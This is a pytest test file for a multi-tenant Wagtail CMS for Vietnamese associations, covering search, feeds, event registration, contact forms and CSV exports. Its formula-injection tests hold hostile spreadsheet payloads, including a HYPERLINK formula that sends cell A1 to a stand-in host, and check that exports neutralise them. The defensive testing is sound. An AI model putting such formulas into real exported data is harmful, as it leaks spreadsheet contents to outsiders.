"""What a union's readers find: search, feeds, robots, registration, organisation."""

import re

from django_tenants.utils import schema_context

from cms.models import EventIndexPage, EventRegistration, HomePage, OrganisationPage
from tests.captcha import solved_captcha


def test_search_finds_only_this_unions_pages(union_a, union_b):
    body = union_b.client().get("/tim-kiem/", {"q": "canh giới"}).content.decode()
    assert union_b.sentinel_title in body and union_a.sentinel_title not in body
    empty = union_b.client().get("/tim-kiem/", {"q": "khongcoketqua"}).content.decode()
    assert "Không tìm thấy nội dung nào phù hợp" in empty


def test_rss_lists_this_unions_news(union_a, union_b):
    response = union_a.client().get("/tin-tuc/rss/")
    assert response["Content-Type"].startswith("application/rss+xml")
    feed = response.content.decode()
    assert union_a.sentinel_title in feed and union_b.sentinel_title not in feed
    assert "http://uniona.localhost/tin-tuc/tin-canh-gioi/" in feed


def test_robots_and_sitemap_point_at_this_unions_host(union_a):
    robots = union_a.client().get("/robots.txt").content.decode()
    assert "Sitemap: http://uniona.localhost/sitemap.xml" in robots
    assert "Disallow: /admin/" in robots
    sitemap = union_a.client().get("/sitemap.xml").content.decode()
    assert "uniona.localhost/tin-tuc/tin-canh-gioi/" in sitemap
    assert "unionb.localhost" not in sitemap


def test_articles_carry_social_cards(union_a):
    body = union_a.client().get("/tin-tuc/tin-canh-gioi/").content.decode()
    assert f'<meta property="og:title" content="{union_a.sentinel_title}">' in body
    assert '<meta name="description" content="Liên hiệp Hội Thử nghiệm A sentinel">' in body


def _event(union):
    with schema_context(union.schema_name):
        from django.utils import timezone

        from cms.models import EventPage

        index = HomePage.objects.get().add_child(
            instance=EventIndexPage(title="Sự kiện", slug="su-kien")
        )
        return index.add_child(
            instance=EventPage(
                title="Hội thảo chuyển đổi số", place="Hội trường", starts_at=timezone.now()
            )
        )


def _register(client, event, email: str):
    html = client.get(event.url).content.decode()
    action = re.search(r'action="(/dang-ky-su-kien/\d+/)"', html).group(1)
    return client.post(
        action,
        {
            "name": "Phạm Thị Dung",
            "organisation": "Hội Tin học tỉnh",
            "email": email,
            "phone": "0912 345 678",
            "consent": "on",
            **solved_captcha(client),
        },
    )


def test_event_registration_is_stored_once_per_address(union_a):
    event = _event(union_a)
    client = union_a.client()
    assert _register(client, event, "dung@example.vn").status_code == 302
    again = _register(client, event, "DUNG@example.vn")
    assert again.status_code == 400
    assert "đã đăng ký tham dự sự kiện" in again.content.decode()
    with schema_context(union_a.schema_name):
        assert EventRegistration.objects.filter(event=event).count() == 1


def test_a_closed_event_refuses_registrations(union_a):
    event = _event(union_a)
    with schema_context(union_a.schema_name):
        event.registration_open = False
        event.save_revision().publish()
    client = union_a.client()
    assert "Sự kiện đã ngừng nhận đăng ký" in client.get(event.url).content.decode()


def test_organisation_totals_are_derived_from_the_list(union_a):
    with schema_context(union_a.schema_name):
        page = HomePage.objects.get().add_child(
            instance=OrganisationPage(
                title="Tổ chức",
                slug="to-chuc",
                organisations=[
                    (
                        "organisation",
                        {
                            "name": "Hội Y học",
                            "kind": "hoi-thanh-vien",
                            "field": "",
                            "members": 3200,
                        },
                    ),
                    (
                        "organisation",
                        {
                            "name": "Hội Làm vườn",
                            "kind": "hoi-thanh-vien",
                            "field": "",
                            "members": 12500,
                        },
                    ),
                    (
                        "organisation",
                        {"name": "Trung tâm", "kind": "truc-thuoc", "field": "", "members": None},
                    ),
                ],
            )
        )
        assert page.member_totals() == {"members": 15700, "hoi-thanh-vien": 2, "truc-thuoc": 1}
    body = union_a.client().get("/to-chuc/").content.decode()
    assert "15.700" in body and "Trung tâm, viện trực thuộc" in body


def test_a_contact_message_is_stored_and_emailed(union_a, mailoutbox):
    from wagtail.contrib.forms.models import FormSubmission

    from cms.models import ContactFormField, ContactPage

    with schema_context(union_a.schema_name):
        page = HomePage.objects.get().add_child(
            instance=ContactPage(
                title="Liên hệ",
                slug="lien-he",
                to_address="vanphong@uniona.example.vn",
                from_address="no-reply@uniona.example.vn",
                subject="Liên hệ từ trang",
            )
        )
        ContactFormField.objects.create(page=page, label="Nội dung", field_type="multiline")
    client = union_a.client()
    wrong = client.post("/lien-he/", {"noi_dung": "Xin chào", "altcha": "bWF5"})
    assert "Không đọc được mã xác minh" in wrong.content.decode()
    response = client.post(
        "/lien-he/",
        {"noi_dung": "Đề nghị phối hợp tổ chức hội thảo", **solved_captcha(client)},
    )
    assert response.status_code == 200 and "Cảm ơn" in response.content.decode()
    with schema_context(union_a.schema_name):
        submission = FormSubmission.objects.get(page=page)
        assert submission.form_data["noi_dung"] == "Đề nghị phối hợp tổ chức hội thảo"
        assert "altcha" not in submission.form_data
    assert [m.to for m in mailoutbox] == [["vanphong@uniona.example.vn"]]
    assert "Đề nghị phối hợp tổ chức hội thảo" in mailoutbox[0].body


def test_a_union_changes_its_colour_and_a_bad_colour_is_refused(union_a):
    import pytest
    from django.core.exceptions import ValidationError

    from cms.models import UnionSiteSettings

    with schema_context(union_a.schema_name):
        site_settings = UnionSiteSettings.objects.get()
        site_settings.primary_colour = "đỏ"
        with pytest.raises(ValidationError) as error:
            site_settings.full_clean()
        assert "Màu phải có dạng #RRGGBB" in str(error.value)
        site_settings.primary_colour = "#b3261e"
        site_settings.full_clean()
        site_settings.save()
    assert "--primary: #b3261e" in union_a.client().get("/?mau=moi").content.decode()


# -- formula injection in exports of what visitors typed (issue 14, item 8) -------------------

_INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def _csv_of(response) -> str:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8-sig")


def _raw_cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_event_registrations_export_visitors_formulas_as_text(union_a, admin_a):
    from cms.models import EventRegistration

    event = _event(union_a)
    with schema_context(union_a.schema_name):
        for n, injection in enumerate(_INJECTIONS):
            EventRegistration.objects.create(
                event=event, name=injection, organisation=injection, email=f"x{n}@example.vn"
            )
    response = admin_a.get("/admin/snippets/cms/eventregistration/", {"export": "csv"})
    assert response.status_code == 200
    cells = _raw_cells(_csv_of(response))
    for injection in _INJECTIONS:
        assert injection not in cells and "'" + injection in cells


def test_contact_submissions_export_visitors_formulas_as_text(union_a, admin_a):
    from wagtail.contrib.forms.models import FormSubmission

    from cms.models import ContactFormField, ContactPage

    with schema_context(union_a.schema_name):
        page = HomePage.objects.get().add_child(
            instance=ContactPage(title="Liên hệ", slug="lien-he", to_address="a@example.vn")
        )
        ContactFormField.objects.create(page=page, label="Nội dung", field_type="multiline")
        for injection in _INJECTIONS:
            FormSubmission.objects.create(page=page, form_data={"noi_dung": injection})
    response = admin_a.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
    assert response.status_code == 200
    cells = _raw_cells(_csv_of(response))
    for injection in _INJECTIONS:
        assert injection not in cells and "'" + injection in cells


def test_numbers_on_a_vietnamese_page_are_vietnamese_whatever_the_browser(demo_union, db):
    from django.test import Client

    from tenants.selectors import union_host

    client = Client(HTTP_HOST=union_host(demo_union.schema_name))
    html = client.get("/", HTTP_ACCEPT_LANGUAGE="en-US,en;q=0.9").content.decode()
    total = re.search(r'data-visits="total">([^<]*)<', html).group(1)
    assert re.fullmatch(r"\d{1,3}(\.\d{3})+", total), total
